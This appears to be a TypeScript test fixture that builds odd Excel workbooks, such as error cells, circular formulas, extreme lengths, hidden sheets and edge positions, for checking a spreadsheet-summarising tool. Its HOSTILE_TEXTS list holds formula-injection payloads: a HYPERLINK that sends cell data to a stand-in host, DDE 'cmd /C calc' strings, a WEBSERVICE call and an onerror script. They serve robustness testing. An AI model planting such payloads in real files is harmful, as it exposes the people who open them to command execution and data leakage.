import type { Workbook, Worksheet } from "@cj-tech-master/excelts";

/** A workbook as people have them, by what is odd about it. */
export interface OddBook {
  readonly name: string;
  build(workbook: Workbook): void;
  /** Something is summarised; else there is nothing to find. */
  readonly summarised: boolean;
}

type Cells = readonly (readonly unknown[])[];

function fill(sheet: Worksheet, rows: Cells, top = 1): void {
  rows.forEach((row, index) =>
    row.forEach((value, column) => {
      if (value !== null) sheet.getCell(top + index, column + 1).value = value as never;
    }),
  );
}

const formula = (text: string, result: unknown = 0): unknown => ({ formula: text, result });

const MONEY: Cells = [
  ["2023年专项资金支出表"],
  [null, null, "单位：万元"],
  ["单位", "下达金额", "支出金额", "支出率"],
  ["佛山", 25327, 25326.0938],
  ["江门", 9414, 9358.5],
  ["云浮", 400, 100],
  ["合计", formula("SUM(B4:B6)", 35141), formula("SUM(C4:C6)", 34784.5938)],
];
const GOALS: Cells = [
  ["一级指标", "三级指标", "分值", "目标值", "实际完成值"],
  ["产出", "培训期数", 60, "≥10期", "8期"],
  ["效益", "带动企业数", 40, "≥100家", "150家"],
];

/** The two tables that every summary is made from. */
function fund(workbook: Workbook): { readonly money: Worksheet; readonly goals: Worksheet } {
  const money = workbook.addWorksheet("资金表");
  fill(money, MONEY);
  const goals = workbook.addWorksheet("指标表");
  fill(goals, GOALS);
  return { money, goals };
}

type Fund = ReturnType<typeof fund>;

function odd(name: string, change: (tables: Fund, workbook: Workbook) => void): OddBook {
  return { name, summarised: true, build: (workbook) => change(fund(workbook), workbook) };
}

function bare(name: string, build: (sheet: Worksheet, workbook: Workbook) => void): OddBook {
  return { name, summarised: false, build: (workbook) => build(workbook.addWorksheet("Sheet1"), workbook) };
}

const ERRORS = ["#DIV/0!", "#N/A", "#NAME?", "#NULL!", "#NUM!", "#REF!", "#VALUE!", "#SPILL!", "#CALC!"];

/** What must stay a text wherever it goes. */
export const HOSTILE_TEXTS: readonly string[] = [
  '=HYPERLINK("http://example.invalid/?x="&A1,"点击")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=WEBSERVICE("http://example.invalid/")',
  "<img src=x onerror=alert(1)>",
  "＝1＋1",
  "\t=1+1",
  "'=1+1",
];

const LONGEST = 32_767;

const contents: readonly OddBook[] = [
  odd("error cells of every kind", ({ money, goals }) => {
    ERRORS.forEach((error, index) => fill(money, [[error, { error }, { error }, null]], 8 + index));
    fill(goals, [["效益", { error: "#REF!" }, 10, { error: "#N/A" }, { error: "#DIV/0!" }]], 4);
  }),
  odd("circular references", ({ money }) => {
    fill(money, [["循环", formula("C8"), formula("B8")]], 8);
    money.getCell("B7").value = formula("SUM(B4:B7)") as never;
  }),
  odd("dates as text and as dates", ({ goals }) => {
    fill(
      goals,
      [
        ["产出", "完成时间", 5, "2023年12月31日前", "2023.11.30"],
        ["产出", "验收时间", 5, new Date(Date.UTC(2023, 11, 31)), new Date(Date.UTC(2024, 0, 5))],
        ["产出", "开工时间", 5, "45291", "二〇二三年十月"],
      ],
      4,
    );
  }),
  odd("1904 dates", ({ goals }, workbook) => {
    workbook.properties.date1904 = true;
    fill(goals, [["产出", "完成时间", 5, "2023年12月底前", new Date(Date.UTC(2023, 10, 30))]], 4);
  }),
  odd("formulas in header cells", ({ money, goals }) => {
    money.getCell("B3").value = formula('"下达"&"金额"', "下达金额") as never;
    goals.getCell("D1").value = formula('"目标"&"值"', "目标值") as never;
    money.getCell("A1").value = formula('TEXT(2023,"0")&"年专项资金支出表"', "2023年专项资金支出表") as never;
  }),
  odd("numbers of seventeen digits", ({ money, goals }) => {
    fill(money, [[Number("44010019800101123"), Number("12345678901234567"), Number("1234567890123456.7")]], 8);
    fill(goals, [["产出", "440100198001011234", 10, "440100198001011234", Number("99999999999999999")]], 4);
  }),
  odd("texts that are formulas, links or scripts", ({ money, goals }) => {
    HOSTILE_TEXTS.forEach((text, index) => {
      fill(money, [[text, 10 + index, 5]], 8 + index);
      fill(goals, [[text, `${text}指标`, 5, text, text]], 4 + index);
    });
    money.name = "=1+1";
    money.getCell("A1").value = HOSTILE_TEXTS[0] ?? "";
  }),
  odd("emoji, surrogate pairs, combined characters", ({ money, goals }) => {
    fill(
      money,
      [
        ["👩‍👩‍👧‍👦家庭服务😀", 10, 5],
        ["𠮷野家𡈼", 10, 5],
        ["é́ ñ", 10, 5],
        ["\u202eطفل", 1, 1],
      ],
      8,
    );
    fill(goals, [["产出", "😀".repeat(200), 10, "≥10👍", "12👍"]], 4);
    goals.name = "指标😀表";
  }),
  odd("half a surrogate pair", ({ goals }) => fill(goals, [["产出", "\ud83d半个", 10, "≥10个\ude00", "12个"]], 4)),
  odd("control characters and lone carriage returns", ({ money, goals }) => {
    fill(
      money,
      [
        ["上\r下", 10, 5],
        ["a\u0007b\u0000c\u001f", 10, 5],
        ["x_x000D_y", 1, 1],
        ["a\u2028b\u0085c\ufeff", 1, 1],
      ],
      8,
    );
    fill(goals, [["产出", "行一\r行二\r\n行三\n行四", 10, "≥10\r个", "12\u000b个"]], 4);
  }),
  odd("texts of the greatest length", ({ money, goals }) => {
    fill(money, [["长".repeat(LONGEST), 10, 5]], 8);
    fill(goals, [["产出", "标".repeat(LONGEST), 10, "≥10个".padEnd(LONGEST, "目"), '"'.repeat(LONGEST)]], 4);
    goals.getCell("A2").value = "级".repeat(9000);
  }),
  odd("pivot output", (_tables, workbook) => {
    fill(workbook.addWorksheet("透视"), [
      ["年度", "(全部)"],
      [],
      ["行标签", "求和项:下达金额", "求和项:支出金额"],
      ["佛山", 25327, 25326.0938],
      ["  江门", 9414, 9358.5],
      ["(空白)", null, null],
      ["总计", 34741, 34684.5938],
    ]);
  }),
];

const sheets: readonly OddBook[] = [
  bare("an empty workbook", () => undefined),
  bare("one cell", (sheet) => fill(sheet, [["支出率"]])),
  bare("formats only", (sheet) => {
    sheet.getCell("C5").font = { bold: true };
    sheet.getRow(9).height = 40;
  }),
  odd("merged data rows", ({ money, goals }) => {
    fill(money, [["甲乙", 30, 20]], 8);
    for (const range of ["A8:A9", "B8:B9", "C8:C9", "A4:A5", "D4:D6"]) money.mergeCells(range);
    goals.mergeCells("A2:A3");
    goals.mergeCells("E2:E3");
  }),
  odd("hidden and filtered rows", ({ money, goals }) => {
    money.getRow(5).hidden = true;
    money.getColumn(2).hidden = true;
    goals.autoFilter = "A1:E3";
    goals.getRow(2).hidden = true;
  }),
  odd("tables of Excel", ({ goals }, workbook) => {
    const sheet = workbook.addWorksheet("列表");
    sheet.addTable({
      name: "支出",
      ref: "B2",
      headerRow: true,
      totalsRow: false,
      columns: [{ name: "单位" }, { name: "下达金额（万元）" }, { name: "支出金额（万元）" }],
      rows: [
        ["佛山", 100, 90],
        ["江门", 200, 190],
      ],
    });
    goals.getCell("E3").value = "160家";
  }),
  odd("a protected sheet", ({ goals }) => void goals.protect("密码", {})),
  odd("hidden and very hidden sheets", ({ money, goals }, workbook) => {
    workbook.addWorksheet("封面").getCell("A1").value = "封面";
    money.state = "hidden";
    goals.state = "veryHidden";
  }),
  odd("external links", ({ money }) => {
    money.getCell("B4").value = formula("'C:\\报表\\[预算.xlsx]表1'!B4", 25327) as never;
    money.getCell("C5").value = formula("[预算.xlsx]表1!C5", 9358.5) as never;
  }),
  odd("sheets and names that clash with ours", ({ money }, workbook) => {
    workbook.addWorksheet("绩效评分汇总").getCell("A1").value = "别人的汇总";
    workbook.addWorksheet("核对清单").getCell("B2").value = "别人的清单";
    workbook.addWorksheet("绩效评分汇总 (2)");
    for (const name of ["_PERFSCORE.EDIT.7.1", "汇总", "_PERFSCORE.OTHER"])
      workbook.definedNames.add("资金表!$B$4", name);
    money.getCell("F1").value = "旁注";
  }),
  odd("sheet names with quotes, blanks and 31 characters", ({ money, goals }) => {
    money.name = "O'Brien & '资金' #1";
    goals.name = "甲乙丙丁戊己庚辛壬癸甲乙丙丁戊己庚辛壬癸甲乙丙丁戊己庚辛壬癸1";
  }),
  odd("a sheet of 16,384 columns", ({ money }) => void (money.getCell("XFD4").value = "最后一列")),
  odd("a table at the right edge", (_tables, workbook) => {
    const sheet = workbook.addWorksheet("边上");
    const rows: Cells = [
      ["单位", "下达金额", "支出金额"],
      ["甲", 10, 9],
      ["乙", 20, 19],
      ["丙", 30, 30],
    ];
    rows.forEach((row, index) =>
      row.forEach((value, column) => (sheet.getCell(index + 1, 16_382 + column).value = value as never)),
    );
  }),
  odd("a table at the last rows", (_tables, workbook) => {
    const sheet = workbook.addWorksheet("底部");
    fill(
      sheet,
      [
        ["单位", "下达金额", "支出金额"],
        ["甲", 10, 9],
        ["乙", 20, 19],
      ],
      1_048_574,
    );
  }),
  odd("from right to left", ({ money, goals }) => {
    for (const sheet of [money, goals]) sheet.views = [{ state: "normal", rightToLeft: true } as never];
  }),
];

export const ODD_BOOKS: readonly OddBook[] = [...sheets, ...contents];
